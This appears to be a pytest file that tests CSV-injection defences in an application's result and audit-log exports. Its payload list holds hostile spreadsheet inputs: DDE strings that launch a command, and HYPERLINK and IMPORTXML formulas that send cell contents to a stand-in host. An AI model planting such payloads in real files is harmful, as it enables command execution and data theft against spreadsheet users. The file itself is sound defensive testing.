"""CSV injection (issue 18, item 13): no cell of a result or audit export is a formula to a
spreadsheet, whatever separator the spreadsheet splits on; numbers stay numbers.

Each payload goes through the result export's writer (a text column, a mixed column and a
header) and through the audit log's export (SQLite and MariaDB app databases, every text
field). The check reads the file as a spreadsheet would — with our `,` and quotes, and
also split on `;`, TAB, `|` and line breaks, as a reader set to another separator would —
and asserts no piece starts with a formula character, blanks before it included.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Generator

import pandas as pd
import pytest

from auth import audit
from auth.services import AuthServices
from backend.csv_cells import neutralise
from backend.export import BOM, write_csv

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   +cmd",
    "\u00a0=1+1",  # no-break space
    "\u3000=1+1",  # ideographic space
    "\u200b=1+1",  # zero-width space
    "\ufeff@x",
    "＝1+1",  # full-width forms
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "|cmd",
    "=cmd|' /C calc'!A0",
    "foo;=cmd|' /C calc'!A0",
    "foo; =1+1",
    "foo；=1+1",  # full-width semicolon
    "foo\t=1+1",
    "foo|=1+1",
    "foo\n@SUM(1)",
    "foo\r\n-2+3",
    'a";=1+1;"',
    '=HYPERLINK("http://127.0.0.1/leak?"&A1,"x")',
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    '"=1+1"',
    "-",
    "=",
    "\0=1",
]
# Text a spreadsheet shows as text anyway: written exactly as it is.
NEAR_MISSES = [
    "plain",
    "a-b",
    "foo@bar.com",
    "1+1",
    "hello = world",
    "x;y",
    "a|b",
    "C++",
    "e-mail",
    "North, -5% vs 2024",  # a comma is our separator: protected by quoting
    "café ₤ €",
    "'=already neutral",
    "",
]
_TRIGGERS = re.compile(r"^[\s\u200b\u200c\u200d\u2060\ufeff\"]*[=+\-@\t\r\n\0|＝＋－＠｜﹦﹢﹣]")

_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def stream(frames: list[pd.DataFrame]) -> Generator[pd.DataFrame, None, bool]:
    yield from frames
    return False


def pieces(text: str) -> list[str]:
    """What a spreadsheet could see as cells: the CSV's own cells, and the raw text split on
    the other separators one may be set to."""
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    return cells + [cell for row in rows for cell in row for cell in re.split("[;；\t|\r\n]", cell)]


def assert_no_formula(text: str) -> None:
    for piece in pieces(text):
        if _NUMBER.fullmatch(piece):
            continue  # a number: what a numeric column holds
        assert not _TRIGGERS.match(piece), repr(piece)


def export(frame: pd.DataFrame) -> str:
    out = io.BytesIO()
    write_csv(stream([frame]), out)
    return out.getvalue().decode("utf-8").removeprefix(BOM)


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_a_result_export_never_holds_a_formula(payload: str) -> None:
    frame = pd.DataFrame(
        {
            "text": pd.Series([payload, "ok"], dtype="string"),
            "mixed": pd.Series([payload, 7], dtype=object),
            payload: pd.Series([-5, 3], dtype="int64"),
        }
    )
    text = export(frame)
    assert_no_formula(text)
    header, first, second = list(csv.reader(io.StringIO(text)))
    # Neutralised by single quotes only (a spreadsheet hides the leading one); nothing lost.
    for cell in (header[2], first[0], first[1]):
        assert cell != payload
        assert cell.replace("'", "") == payload.replace("'", "")
    assert (first[2], second) == ("-5", ["ok", "7", "3"])  # numbers stay numbers


@pytest.mark.parametrize("text", NEAR_MISSES, ids=repr)
def test_ordinary_text_and_numbers_are_written_as_they_are(text: str) -> None:
    frame = pd.DataFrame(
        {
            "label": pd.Series([text], dtype="string"),
            "n": pd.Series([-5]),
            "x": pd.Series([-0.25]),
            "big": pd.Series([-1_000_000_000_000]),
        }
    )
    written = export(frame)
    assert list(csv.reader(io.StringIO(written))) == [
        ["label", "n", "x", "big"],
        [text, "-5", "-0.25", "-1000000000000"],
    ]
    assert neutralise(text) == text


def test_every_cell_is_quoted_so_separators_and_quotes_stay_inside() -> None:
    frame = pd.DataFrame({"a": pd.Series(['x,"y";z\nw'], dtype="string"), "n": [1]})
    assert export(frame) == '"a","n"\n"x,""y"";z\nw","1"\n'


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_an_audit_export_never_holds_a_formula(auth: AuthServices, payload: str) -> None:
    log = auth.audit
    log.record_sql("ann", payload, payload, -5, audit.ERROR, 0.25, payload)
    log.record_login("ann", audit.LOGIN_FAILURE)
    text = "".join(log.iter_csv())
    assert_no_formula(text)
    out = io.StringIO()
    log.write_csv(out)
    assert out.getvalue() == text
    rows = list(csv.DictReader(io.StringIO(text)))
    sql_run = next(row for row in rows if row["event"] == audit.SQL_RUN)
    stored = payload.replace("\0", "")  # some databases keep no NUL in text
    for field in ("question", "sql", "detail"):
        assert sql_run[field].replace("'", "") in {
            payload.replace("'", ""),
            stored.replace("'", ""),
        }
    assert (sql_run["row_count"], sql_run["duration_s"]) == ("-5", "0.25")


@pytest.mark.parametrize("text", NEAR_MISSES[:-1], ids=repr)
def test_ordinary_audit_text_is_exported_as_it_is(auth: AuthServices, text: str) -> None:
    auth.audit.record_sql("ann", text, "SELECT 1", 3, audit.OK, 0.1)
    (row,) = csv.DictReader(io.StringIO("".join(auth.audit.iter_csv())))
    assert (row["question"], row["row_count"]) == (text, "3")
